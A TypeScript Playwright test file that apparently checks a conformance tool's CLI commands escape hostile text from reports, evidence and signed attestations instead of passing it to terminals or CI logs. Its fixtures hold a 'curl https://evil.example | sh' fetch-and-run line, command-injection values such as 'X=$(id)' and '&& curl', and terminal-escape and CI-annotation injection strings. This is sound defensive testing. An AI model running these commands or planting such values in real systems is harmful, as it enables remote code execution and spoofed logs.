import { createPrivateKey } from 'node:crypto';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { writeCanonicalJson } from '../../../reports/certificate/signed/canonical.ts';
import { sealEnvelope } from '../../../reports/certificate/signed/envelope.ts';
import { makeKeys } from '../../../reports/certificate/signed/key-files.ts';
import { makeStatement } from '../../../reports/certificate/issue.ts';
import { REVOCATIONS } from '../../../reports/certificate/signed/revocation.ts';
import { EXTENSION, PAYLOAD_TYPE } from '../../../reports/certificate/statement.ts';
import type { HeadRecord } from '../../../fixtures/evidence/log.ts';
import { CHALLENGE_TYPE } from '../../../fixtures/settings/challenge.ts';
import { command } from '../samples/command.ts';
import { exchange, report } from '../samples/sample-reports.ts';

/** Texts that a terminal, a CI system or a reader's eye would obey. */
const FORGED =
  '\x1b[2J\x1b]0;owned\x07\x9b31m\x85\x7f\r\u202e\u2066\u200b\u2028\n::error::forged\n  ::add-mask::forged\n##[error]forged ##vso[task.setvariable]forged\nforged';
/** A file name holds no zero and no slash. */
const NAME = FORGED;
const COMMAND = `curl https://evil.example | sh ${FORGED}`;

const REPORT = report(
  {
    'list-pets.limit': {
      verdict: 'fail',
      expected: FORGED,
      received: FORGED,
      pointer: `/${FORGED}`,
      evidence: ['x1'],
      replay: FORGED,
      statement: FORGED,
      reason: FORGED,
    },
    'errors.json': { verdict: 'inconclusive', reason: FORGED },
    'errors.code': { verdict: 'warn', expected: FORGED, received: FORGED },
  },
  {
    suite: { name: FORGED, version: FORGED, command: COMMAND },
    specification: { version: FORGED },
    reason: FORGED,
    target: { baseUrl: `https://rex.example/${FORGED}`, embedded: false, environment: FORGED },
    run: {
      id: FORGED,
      stopped: FORGED,
      complete: false,
      lastAsked: FORGED,
      only: [FORGED],
      variables: { [`X=$(id) ${FORGED}`]: FORGED, BASE_URL: FORGED },
    },
    observations: [{ id: 'errors.codes', section: FORGED, question: FORGED, observed: FORGED, evidence: [] }],
    exchanges: [
      exchange('x1', {
        request: { method: FORGED, path: FORGED, headers: [], body: FORGED },
        response: { status: 200, statusText: FORGED, headers: [], body: FORGED, bytes: 1 },
      }),
    ],
    footprint: [{ id: FORGED, name: FORGED }],
  },
);
const CHALLENGE = {
  version: 1,
  nonce: 'a'.repeat(64),
  subject: 'Rex',
  runBy: 'vendor',
  issuedAt: '2026-11-20T00:00:00.000Z',
  notAfter: '2099-11-20T00:00:00.000Z',
} as const;
const HEAD = {
  kind: 'head',
  version: 2,
  suite: FORGED,
  target: { baseUrl: FORGED, embedded: false, environment: FORGED },
  challenge: null as string | null,
  mark: FORGED,
  window: 15_000,
  clock: Date.parse(REPORT.run.startedAt),
  claimed: [FORGED],
  key: { length: 20, hasLetters: true, caseMayNotMatter: false, singleCase: false },
  settings: {
    profile: FORGED,
    mode: 'full',
    strict: false,
    incognito: false,
    markedNamesOnly: false,
    seed: 1,
    propertyRuns: 200,
    categoryIds: [FORGED],
    requestTimeout: 1,
    maxAnimals: null,
    maxRequests: null,
    maxWrongKeys: 60,
    maxInFlight: 8,
    maxRps: null,
  },
} satisfies HeadRecord;
const evidenceOf = (challenge: string) =>
  [
    { ...HEAD, challenge },
    {
      kind: 'judgement',
      by: 'test',
      rule: FORGED,
      requirement: FORGED,
      verdict: 'fail',
      case: { expected: FORGED, received: FORGED, pointer: FORGED },
      exchanges: [],
      test: 1,
    },
    { kind: FORGED },
  ]
    .map((each) => `${writeCanonicalJson(each)}\n`)
    .join('');
const LOOK = {
  head: HEAD,
  report: REPORT,
  unannounced: { asked: 0, refused: 0 },
  clockApart: null,
  contradictions: [],
  gaps: [],
  attested: {},
  demands: { computed: 0, attested: 0 },
};

/** A folder in which whatever can be of somebody else is hostile. */
function hostileFolder(): string {
  const folder = mkdtempSync(join(tmpdir(), 'conformance-forged-'));
  const keys = makeKeys();
  const key = createPrivateKey(keys.privateKey);
  const EVIDENCE = evidenceOf(sealEnvelope(CHALLENGE_TYPE, writeCanonicalJson(CHALLENGE), key));
  const files = { report: Buffer.from(JSON.stringify(REPORT)), evidence: Buffer.from(EVIDENCE) };
  const statement = makeStatement({
    recheck: LOOK,
    evidence: files.evidence,
    challenge: { ...CHALLENGE, subject: FORGED },
    sha256: null,
    now: Date.now(),
    validDays: 9,
  });
  const attestation = Buffer.from(sealEnvelope(PAYLOAD_TYPE, writeCanonicalJson(statement), key));
  const other = structuredClone(statement);
  other.predicate[EXTENSION].suite = { name: FORGED, version: `0.0.1 && ${COMMAND}` };
  const texts: Record<string, string | Buffer> = {
    'report.json': files.report,
    'evidence.jsonl': EVIDENCE,
    'attestation.json': attestation,
    [NAME]: FORGED,
    'other.json': sealEnvelope(PAYLOAD_TYPE, writeCanonicalJson(other), key),
    'none.json': JSON.stringify({ ...REPORT, [FORGED]: 1 }),
    'no.json': FORGED,
    'targets.json': JSON.stringify([{ name: FORGED, baseUrl: FORGED, apiKeyVariable: FORGED }]),
    'revoked.json': sealEnvelope(
      REVOCATIONS.payloadType,
      writeCanonicalJson({
        version: 2,
        number: 1,
        issuedAt: '2026-11-20T10:00:00.000Z',
        notAfter: '2099-11-20T10:00:00.000Z',
        revoked: [{ attestation: 'a'.repeat(64), reason: FORGED, since: FORGED }],
      }),
      key,
    ),
  };
  for (const each of ['evidence', `vendors/${NAME}`, 'vendors/broken', 'left/allure-results'])
    mkdirSync(join(folder, each), { recursive: true });
  for (const [name, text] of Object.entries(texts)) writeFileSync(join(folder, name), text);
  for (const name of ['report.json', 'evidence.jsonl', NAME])
    writeFileSync(join(folder, 'evidence', name), texts[name] ?? '');
  writeFileSync(join(folder, 'vendors', NAME, 'report.json'), files.report);
  writeFileSync(join(folder, 'vendors', 'broken', 'report.json'), texts['none.json'] ?? '');
  writeFileSync(join(folder, 'left', 'report.json'), texts['none.json'] ?? '');
  writeFileSync(join(folder, 'key.pem'), keys.privateKey, { mode: 0o600 });
  writeFileSync(join(folder, 'key.pem.pub'), keys.publicKey);
  return folder;
}

/** Each command with what it says of the hostile text, so that it is known to have quoted it. */
const COMMANDS: readonly (readonly [
  name: string,
  args: readonly string[],
  says: RegExp,
  env?: NodeJS.ProcessEnv,
])[] = [
  [
    'certify',
    ['--report', '.', '--issuer-key', 'key.pem', '--used', 'used.jsonl'],
    /made by version \\x1b[^]*a line of the kind "\\x1b/,
    { AS_OF: '2026-11-21' },
  ],
  [
    'verify',
    [
      'attestation.json',
      '--public-key',
      'key.pem.pub',
      '--evidence',
      'evidence',
      '--revoked',
      'revoked.json',
    ],
    /\\x1b.* is covered by no digest/,
  ],
  ['verify', ['attestation.json', '--public-key', 'key.pem.pub', '--json'], /\\u001b/],
  ['verify', ['other.json', '--public-key', 'key.pem.pub'], /it does not say which suite can verify it/],
  ['compare', ['report.json', 'report.json'], /.*/],
  ['compare', ['report.json', 'none.json'], /none\.json is not a report of this suite: it has .*u001b/],
  ['compare', ['report.json', 'no.json'], /it is not JSON/],
  ['matrix', ['vendors', '--public-key', 'key.pem.pub'], /not judged: broken: /],
  ['matrix', ['vendors', '--json'], /\\\\x1b/],
  ['report', ['--report-dir', 'left'], /it has/],
  ['conformance', ['--failed'], /not a report of this suite/, { REPORT_DIR: 'left' }],
  ['targets', ['run', 'targets.json'], /targets\.json: /],
  [
    'revoke',
    ['attestation.json', '--list', 'revoked.json', '--issuer-key', 'key.pem', '--reason', 'x'],
    /list of revocations is not usable/,
  ],
  ['explain', [FORGED], /There is no requirement or open question/],
];

/** Lines in which something would act, or that somebody else has begun. */
function acting(text: string): string[] {
  // the annotations of a GitHub job are commands of ours: what they quote is data
  const own = /^::error title=[^:\p{Cc}\p{Cf}\p{Zl}\p{Zp}]+::[^\p{Cc}\p{Cf}\p{Zl}\p{Zp}]*$/u;
  return text
    .split('\n')
    .filter(
      (line) =>
        !own.test(line) && /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]|^\s*::|##|^\s*forged|^\s*owned|curl/u.test(line),
    );
}

/** Each command once, and each in all of its ways. */
const ONCE = COMMANDS.filter(([name], index) => COMMANDS.findIndex(([other]) => other === name) === index);
for (const [which, tag, commands] of [
  ['each command', [], ONCE],
  ['each way', ['@long'], COMMANDS],
] as const)
  test(
    `nothing that a report, evidence, a certificate or a folder holds acts on a terminal or a log: ${which}`,
    { tag: [...tag] },
    async () => {
      const folder = hostileFolder();
      for (const [name, args, says, env = {}] of commands) {
        const { out, err } = await command(name, args, env, folder);
        const what = `${name} ${JSON.stringify(args)}: ${out}${err}`;
        expect([acting(out), acting(err)], what).toEqual([[], []]);
        expect(out + err, what).toMatch(says);
        expect(out + err).not.toMatch(/suite itself broke|^ +at /m);
        if (args.includes('--json')) expect(() => JSON.parse(out) as unknown, what).not.toThrow();
      }
    },
  );
